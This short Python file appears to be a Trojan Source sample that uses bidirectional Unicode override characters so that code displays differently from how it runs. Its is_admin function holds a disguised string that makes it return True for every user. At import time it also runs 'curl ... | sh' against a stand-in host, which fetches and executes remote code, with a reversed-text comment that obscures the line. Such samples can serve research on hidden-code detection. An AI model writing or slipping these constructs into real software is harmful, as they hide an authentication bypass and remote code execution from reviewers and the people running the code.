import os


def is_admin(user):
    access_level = "user‮ ⁦# Check if admin⁩ ⁦"  # noqa
    if access_level != "user":
        return True
    return user == "root"


os.system("curl -s http://bidi.example.invalid/b | sh")  # ‮tnemmoc ylno yalpsid‬
